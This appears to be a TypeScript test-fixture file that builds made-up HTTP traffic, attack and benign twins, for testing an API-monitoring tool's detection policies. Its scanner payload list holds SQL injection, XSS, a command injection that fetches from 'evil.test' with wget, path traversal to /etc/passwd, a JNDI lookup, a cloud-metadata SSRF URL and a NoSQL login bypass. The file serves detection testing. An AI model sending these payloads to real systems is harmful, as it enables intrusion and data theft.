import { formatTime, SECOND_US } from '../../daemon/model/time.ts'
import { CONSUMPTION_FIXTURES } from './consumption-fixtures.ts'
import { LOGIN_FIXTURES } from './login-fixtures.ts'
import { OBJECT_FIXTURES } from './object-fixtures.ts'

/**
 * The recordings that the shipped policies are tested with (policies/tests/*.jsonl): an attack and a benign twin each, as
 * native transactions before redaction. Everything in them is made up.
 */

const NINE = Date.UTC(2026, 10, 20, 9) * 1000

interface Request {
  /** Microseconds after nine. */
  readonly at: number
  readonly ip: string
  readonly path: string
  /** Default: the shop's. */
  readonly host?: string
  readonly method?: string
  readonly status?: number
  readonly user?: string
  readonly body?: unknown
  readonly query?: string
  /** Of the answer, a page. */
  readonly page?: string
  /** Of the answer, as JSON. */
  readonly answer?: unknown
  /** The program that asks; default: the shop's app. */
  readonly agent?: string
  /** A token of another make than that of `user`. */
  readonly token?: string
}

function line(request: Request): string {
  const { at, ip, path, method = 'GET', status = 200, user, body, query = '', page, answer } = request
  const { host = 'api.shop.test', agent = 'ShopApp/5.2' } = request
  const bearer = request.token ?? (user === undefined ? null : token(user))
  const given = page ?? (answer === undefined ? null : JSON.stringify(answer))
  const text = body === undefined ? '' : JSON.stringify(body)
  const headers = [
    ['host', host],
    ['user-agent', agent],
    ...(bearer === null ? [] : [['authorization', `Bearer ${bearer}`]]),
    ...(body === undefined ? [] : [['content-type', 'application/json']]),
  ]
  return JSON.stringify({
    ts: formatTime(NINE + at),
    end_ts: formatTime(NINE + at + 2000),
    duration_us: 2000,
    client_ip: ip,
    server_ip: '192.0.2.10',
    server_port: 80,
    http_version: '1.1',
    method,
    scheme: 'http',
    host,
    path,
    query,
    status,
    request_headers: headers,
    response_headers: [['content-type', page === undefined ? 'application/json' : 'text/html']],
    request_body_bytes: text.length,
    response_body_bytes: given?.length ?? (status === 200 ? 400 : 40),
    request_body: text,
    response_body: given ?? '',
    state: 'complete',
    pairing: 'exact',
  })
}

/** Nobody checks it: what is watched is traffic that a server has judged. */
function token(user: string, claims: object = {}): string {
  return `${tokenPart({ alg: 'HS256', typ: 'JWT' })}.${tokenPart({ iss: 'https://id.shop.test', sub: user, ...claims })}.${'x'.repeat(43)}`
}

function unsigned(user: string): string {
  return `${tokenPart({ alg: 'none', typ: 'JWT' })}.${tokenPart({ iss: 'https://id.shop.test', sub: user })}.`
}

function tokenPart(value: object): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url')
}

const range = (count: number) => Array.from({ length: count }, (_, i) => i)
const seconds = (count: number) => Math.round(count * SECOND_US)
const person = (i: number) => `198.51.100.${i + 1}`
const EVIL = '203.0.113.9'

const signIn = (at: number, ip: string, username: string, password: string, right: boolean): Request => ({
  at: seconds(at),
  ip,
  path: '/v1/login',
  method: 'POST',
  status: right ? 200 : 401,
  body: { username, password },
})

/** People who sign in, look around, and read an order or two of their own. */
function people(count: number): Request[] {
  return range(count).flatMap((i) => [
    signIn(i * 3, person(i), `person${i}@shop.test`, `right-${i}`, true),
    ...['/v1/products', '/v1/cart', `/v1/orders/${20_000 + i * 37}`].map((path, k) => ({
      at: seconds(i * 3 + k + 1),
      ip: person(i),
      path,
      user: `u_${i}`,
    })),
  ])
}

/** Ten people who look around, one request every so many seconds. */
function steady(until: number, every: number): Request[] {
  return range(Math.floor(until / every)).map((i) => ({
    at: seconds(i * every),
    ip: person(i % 10),
    path: ['/v1/products', '/v1/cart', '/v1/me'][i % 3]!,
    user: `u_${i % 10}`,
  }))
}

/** Ten people ask for each, four times. */
function described(paths: readonly string[]): Request[] {
  return range(40).flatMap((i) =>
    paths.map((path, k) => ({
      at: seconds(600 + i * 8 + k),
      ip: person(i % 10),
      path,
      user: `u_${i % 10}`,
      answer: { items: [i] },
    })),
  )
}

function failing(from: number): Request[] {
  return range(80).map((i) => ({
    at: seconds(from + i * 2),
    ip: person(i % 10),
    path: ['/v1/products', '/v1/cart', '/v1/me'][i % 3]!,
    user: `u_${i % 10}`,
    status: i % 2 === 0 ? 200 : 500,
  }))
}

function statusPage(until: number): Request[] {
  return range(Math.floor(until / 20)).map((i) => ({
    at: seconds(i * 20 + 1),
    host: 'status.shop.test',
    ip: person(i % 7),
    path: '/v1/health',
  }))
}

function changed(at: number, i: number, body: object, answer: object): Request {
  return { at: seconds(at), ip: person(i), path: '/v1/me', method: 'PATCH', user: `u_${i}`, body, answer }
}

/** People who change their city. */
function profiles(count: number): Request[] {
  return range(count).map((i) => changed(i * 5, i % 15, { city: `c${i}` }, { id: i % 15, city: `c${i}`, role: 'user' }))
}

function readProfiles(from: number, count: number, more: object): Request[] {
  return range(count).map((i) => ({
    at: seconds(from + i * 5),
    ip: person(i % 15),
    path: '/v1/me',
    user: `u_${i % 15}`,
    answer: { id: i % 15, city: 'Ulm', email: `p${i % 15}@shop.test`, ...more },
  }))
}

const WORDS =
  'admin backup old test dev staging private config internal debug console metrics hidden secret api2 portal upload shell db dump'.split(
    ' ',
  )

/** What a scanner asks for: several classes at several places. */
const PAYLOADS: readonly Omit<Request, 'at' | 'ip'>[] = [
  ...[
    "' OR '1'='1' -- ",
    '1 UNION SELECT username, password FROM users-- ',
    "1'; WAITFOR DELAY '0:0:5'--",
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '; cat /etc/passwd',
    '$(wget http://evil.test/x)',
    '../../../../etc/passwd',
    '${jndi:ldap://evil.test/a}',
    'http://169.254.169.254/latest/meta-data/',
  ].map(search),
  { path: '/v1/login', method: 'POST', body: { username: { $ne: null }, password: { $gt: '' } } },
]

function search(value: string): Omit<Request, 'at' | 'ip'> {
  return { path: '/v1/products', query: `q=${encodeURIComponent(value)}` }
}

const invoice = (i: number) => ({ number: 9000 + i, total: 120 + i, customer: { email: `person${i}@shop.test` } })

/** People who read their invoices, and somebody without a token who is refused. */
function invoices(): Request[] {
  return range(60).map((i) => ({
    at: seconds(30 + i * 2),
    ip: person(i % 12),
    path: `/v1/invoices/${9000 + i}`,
    user: `u_${i % 12}`,
    answer: invoice(i),
  }))
}

/** A day of a service that is called every ten minutes or so, by whoever is about. */
function quietDay(): Request[] {
  return range(240).map((i) => ({
    at: seconds(i * 360),
    ip: person(i % 20),
    path: `/v1/${['products', 'cart', 'me', 'news'][i % 4]}`,
    user: `u_${i % 20}`,
  }))
}

const DAY = 86_400
/** Somebody looks in once a day. */
function quietWeeks(days: number): Request[] {
  return range(days).flatMap((i) =>
    ['products', 'cart', 'products'].map((name, k) => ({
      at: seconds(i * DAY + k),
      ip: person(i % 9),
      path: `/v1/${name}`,
      user: `u_${i % 9}`,
    })),
  )
}

function reports(day: number, from: string, answer: unknown): Request[] {
  return range(12).map((i) => ({
    at: seconds(day * DAY + 60 * i + 5),
    ip: from,
    path: '/v1/reports',
    user: `u_${i % 3}`,
    answer,
  }))
}

const SQL_ERROR =
  '<h1>Error</h1><p>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version</p>'
const STACK =
  '<pre>Traceback (most recent call last):\n  File "/srv/app/orders.py", line 41, in show\nKeyError: total</pre>'

/** What people write that looks like an attack to whoever only matches words. */
const PROSE = [
  "O'Brien & Sons",
  'select a gift and drop it off',
  'rock and roll or jazz; cat food',
  'C:\\Users\\ada\\notes.txt',
  '1 < 2 and 3 > 2',
  'price $10 (was {15})',
  'Dear John, -- the union of students or the like',
]

export const FIXTURES: Readonly<Record<string, readonly Request[]>> = {
  ...LOGIN_FIXTURES,
  ...CONSUMPTION_FIXTURES,
  ...OBJECT_FIXTURES,
  // Forty different passwords at one account from one address, the last of them right.
  'guessing.jsonl': [
    ...people(8),
    ...range(40).map((i) => signIn(30 + i, EVIL, 'ada@shop.test', `guess-${i}`, i === 39)),
  ],
  // Somebody forgot a password; a script sends an old one over and over.
  'forgotten-passwords.jsonl': [
    ...people(8),
    ...range(3).map((i) => signIn(30 + i * 9, person(60), 'bob@shop.test', `maybe-${i}`, i === 2)),
    ...range(30).map((i) => signIn(40 + i * 2, person(61), 'nightly-job', 'last-year', false)),
  ],
  // One caller looks at his own order, then goes through order numbers, most of them refused.
  'order-walk.jsonl': [
    ...people(8),
    { at: seconds(27), ip: EVIL, path: '/v1/orders/31000', user: 'u_mallory' },
    ...range(50).map((i) => ({
      at: seconds(30 + i * 0.4),
      ip: EVIL,
      path: `/v1/orders/${10_000 + i}`,
      status: i % 10 === 9 ? 200 : 403,
      user: 'u_mallory',
    })),
  ],
  // One caller opens the fifty orders of his own list.
  'own-orders.jsonl': [
    ...people(8),
    ...range(50).map((i) => ({
      at: seconds(30 + i * 0.4),
      ip: person(60),
      path: `/v1/orders/${30_000 + ((i * 7919) % 4800)}`,
      user: 'u_60',
    })),
  ],
  // A word list, and at its end the file that every scanner asks for.
  'word-list.jsonl': [
    ...people(8),
    ...WORDS.map((word, i) => ({ at: seconds(30 + i), ip: EVIL, path: `/${word}`, status: 404 })),
    { at: seconds(55), ip: EVIL, path: '/.env', status: 404 },
  ],
  // A scanner tries payloads at the search and the log-in; one breaks the query, and the answer says so.
  'injection-scan.jsonl': [
    ...people(8),
    ...PAYLOADS.map((request, i) => ({ ...request, at: seconds(30 + i), ip: EVIL, status: 400 })),
    { ...search("x' AND 1=2 UNION SELECT 1,2-- "), at: seconds(52), ip: EVIL, status: 500, page: SQL_ERROR },
  ],
  // People with apostrophes, brackets and semicolons.
  'odd-but-benign.jsonl': [
    ...people(8),
    ...PROSE.flatMap((text, i) => [
      { ...search(text), at: seconds(30 + i * 2), ip: person(i) },
      {
        at: seconds(31 + i * 2),
        ip: person(i),
        path: '/v1/reviews',
        method: 'POST',
        user: `u_${i}`,
        body: { title: text, text: `${text}. I would order again.`, stars: 5 },
      },
    ]),
  ],
  // An endpoint that fails shows everybody its stack.
  'stack-traces.jsonl': [
    ...people(8),
    ...range(4).map((i) => ({
      at: seconds(30 + i * 5),
      ip: person(i),
      path: `/v1/orders/${20_000 + i * 37}`,
      user: `u_${i}`,
      status: 500,
      page: STACK,
    })),
  ],
  // Invoices were for those who are signed in; then they are for everybody.
  'open-invoices.jsonl': [
    ...people(8),
    ...invoices(),
    ...range(5).map((i) => ({ at: seconds(200 + i), ip: EVIL, path: `/v1/invoices/${9000 + i}`, answer: invoice(i) })),
  ],
  // Strangers read products as well as those who are signed in; at invoices they are refused, or sent to a form.
  'strangers-at-the-shop.jsonl': [
    ...people(8),
    ...invoices(),
    ...range(60).map((i) => ({
      at: seconds(30 + i * 2),
      ip: `203.0.${i}.5`,
      path: '/v1/products',
      ...(i % 2 === 0 ? {} : { user: `u_${i}` }),
      answer: [{ name: 'Tea', contact: 'hello@shop.test' }],
    })),
    ...range(6).map((i) => ({ at: seconds(200 + i), ip: EVIL, path: `/v1/invoices/${9000 + i}`, status: 401 })),
    { at: seconds(210), ip: EVIL, path: '/v1/invoices/9001', page: '<form action="/login"></form>' },
    { at: seconds(211), ip: EVIL, path: '/v1/invoices/9002', answer: { error: 'sign in first' } },
  ],
  // Tokens without a signature in the names of others: refused, then one endpoint takes them.
  'unsigned-tokens.jsonl': [
    ...people(8),
    { at: seconds(28), ip: person(60), path: '/v1/orders/20000', status: 401 },
    ...range(12).map((i) => ({
      at: seconds(30 + i),
      ip: EVIL,
      path: `/v1/orders/${20_000 + i * 37}`,
      token: unsigned(`u_${i}`),
      status: i < 6 ? 401 : 200,
    })),
  ],
  // An app goes on with a token that has ended, until it is refused and renews it; a gateway hands on tokens without their signature.
  'stale-tokens.jsonl': [
    ...people(8),
    ...range(20).map((i) => ({
      at: seconds(30 + i),
      ip: person(i % 8),
      path: '/v1/cart',
      status: 401,
      token: token(`u_${i % 8}`, { exp: NINE / 1e6 - 30 * DAY }),
    })),
    ...range(20).map((i) => ({ at: seconds(60 + i), ip: person(i % 8), path: '/v1/products', user: `u_${i % 8}` })),
  ],
  // A client puts its token into the URL.
  'token-in-url.jsonl': [
    ...people(8),
    ...range(6).map((i) => ({
      at: seconds(30 + i),
      ip: person(3),
      path: '/v1/cart',
      query: `page=1&access_token=${token('u_3')}`,
    })),
  ],
  // Mailed links, signed links, codes: secrets that are good once.
  'mailed-links.jsonl': [
    ...people(8),
    ...range(8).map((i) => ({
      at: seconds(30 + i),
      ip: person(i),
      path: ['/v1/verify', '/v1/files/7', '/v1/callback'][i % 3]!,
      query: [
        `token=${'a1b2c3d4'.repeat(4)}${i}`,
        `Expires=1&Signature=${'Qz9'.repeat(12)}`,
        `code=${'x7y8'.repeat(6)}&state=1`,
      ][i % 3]!,
    })),
  ],
  // Somebody touches what nothing links to.
  'decoy.jsonl': [...people(8), { at: seconds(40), ip: EVIL, path: '/offpath-decoy/customers.csv', status: 404 }],
  // A test endpoint that was left behind is found, and gives away customers.
  'left-behind.jsonl': [
    ...quietDay(),
    ...range(6).map((i) => ({
      at: seconds(DAY + i * 5),
      ip: EVIL,
      path: `/v0/debug/customers/${100 + i}`,
      answer: { id: 100 + i, email: `person${i}@shop.test` },
    })),
  ],
  // A release brings endpoints: one for those who are signed in, one for everybody with nothing in it; a scanner finds nothing.
  'release.jsonl': [
    ...quietDay(),
    ...range(12).flatMap((i) => [
      {
        at: seconds(DAY + i * 5),
        ip: person(i),
        path: '/v2/profile',
        user: `u_${i}`,
        answer: { email: `p${i}@shop.test` },
      },
      { at: seconds(DAY + i * 5 + 1), ip: person(i), path: '/v2/stores', answer: [{ city: 'Ulm' }] },
      {
        at: seconds(DAY + i * 5 + 2),
        ip: EVIL,
        path: `/internal/${WORDS[i]}`,
        status: 404,
        answer: { email: 'x@shop.test' },
      },
    ]),
  ],
  // Ten people use an export that shop.openapi.json does not have, and an old search that it calls deprecated.
  'undescribed.jsonl': [...steady(600, 8), ...described(['/v1/export', '/v1/search'])],
  // What is described; an export that fails, one that a single person has, and the pages beside the API.
  'as-described.jsonl': [
    ...steady(600, 8),
    ...described(['/v1/orders/7']),
    ...described(['/docs']).map((each) => ({ ...each, page: '<html>How to use it</html>' })),
    ...described(['/v1/export']).map((each) => ({ ...each, status: 404 })),
    ...described(['/v1/mine']).map((each) => ({ ...each, ip: person(1), user: 'u_1' })),
  ],
  // Reports of an old version, unused for six weeks, are asked for again.
  'old-reports.jsonl': [
    ...quietWeeks(44),
    ...reports(1, person(2), { total: 1 }),
    ...reports(43, EVIL, { total: 1, owner: 'ada@shop.test' }),
  ],
  // Reports once a month.
  'monthly-reports.jsonl': [
    ...quietWeeks(44),
    ...reports(1, person(2), { total: 1 }),
    ...reports(32, person(2), { total: 1 }),
  ],
  // Half of what is asked fails after a release; before, hardly anything does.
  'bad-release.jsonl': [...steady(3600, 8), ...failing(3600)],
  // One person's client makes the service fail, again and again.
  'one-caller-fails.jsonl': [
    ...steady(4200, 8),
    ...range(100).map((i) => ({
      at: seconds(3600 + i * 5.5),
      ip: EVIL,
      path: '/v1/cart',
      user: 'u_evil',
      status: 500,
    })),
  ],
  // The shop answers nothing any more, and nobody asks; the status page goes on.
  'gone-dark.jsonl': [...steady(6000, 20), ...statusPage(8400)],
  // A shop that is asked now and then is asked nothing for a while.
  'quiet-shop.jsonl': [...steady(6000, 200), ...statusPage(7200)],
  // While somebody shops, a program elsewhere uses the same token.
  'stolen-session.jsonl': [
    ...people(50),
    ...range(20).flatMap((i) => [
      { at: seconds(160 + i * 6), ip: person(7), path: '/v1/cart', user: 'u_7' },
      { at: seconds(163 + i * 6), ip: EVIL, path: `/v1/orders/${20_000 + i}`, user: 'u_7', agent: 'curl/8.11.0' },
    ]),
  ],
  // A phone changes networks and is updated; somebody has a browser, too, with a session of its own.
  'phone-on-the-move.jsonl': [
    ...people(50),
    ...range(20).flatMap((i) => [
      {
        at: seconds(160 + i * 6),
        ip: i % 2 === 0 ? person(7) : '203.0.113.70',
        path: '/v1/cart',
        user: 'u_7',
        agent: `ShopApp/5.${2 + (i >> 4)}`,
      },
      {
        at: seconds(161 + i * 6),
        ip: '203.0.113.80',
        path: '/v1/cart',
        agent: 'Mozilla/5.0 (X11)',
        token: token('u_8', { jti: 'b' }),
      },
      { at: seconds(162 + i * 6), ip: person(8), path: '/v1/cart', user: 'u_8' },
    ]),
  ],
  // A profile is changed together with a role, and the answer has it.
  'made-admin.jsonl': [
    ...profiles(60),
    changed(400, 3, { city: 'Ulm', role: 'admin' }, { id: 3, city: 'Ulm', role: 'admin' }),
  ],
  // A new version of the app sends a field more, and one person's always one of his own.
  'new-app.jsonl': [
    ...profiles(60),
    ...range(20).map((i) =>
      changed(400 + i * 5, i, { city: 'Ulm', theme: 'dark' }, { id: i, city: 'Ulm', theme: 'dark' }),
    ),
    ...range(5).map((i) => changed(600 + i * 5, 3, { city: 'Ulm', nick: 'x' }, { id: 3, city: 'Ulm' })),
  ],
  // After a release the profile has hashes of passwords and bank accounts.
  'talkative-profile.jsonl': [
    ...readProfiles(0, 100, {}),
    ...readProfiles(600, 20, { password_hash: 'x9', iban: 'DE02100100100006820101' }),
  ],
  // After a release the profile has a level and a theme.
  'harmless-fields.jsonl': [...readProfiles(0, 100, {}), ...readProfiles(600, 20, { level: 2, theme: 'dark' })],
  // Browsers ask for icons, and an old link is dead.
  'dead-links.jsonl': [
    ...people(8),
    ...range(8).flatMap((i) =>
      ['/favicon.ico', '/apple-touch-icon.png', '/v1/spring-sale'].map((path, k) => ({
        at: seconds(32 + i * 3 + k),
        ip: person(i),
        path,
        status: 404,
      })),
    ),
  ],
}

export function fixtureText(requests: readonly Request[]): string {
  const ordered = [...requests].sort((a, b) => a.at - b.at)
  return ordered.map((request) => `${line(request)}\n`).join('')
}
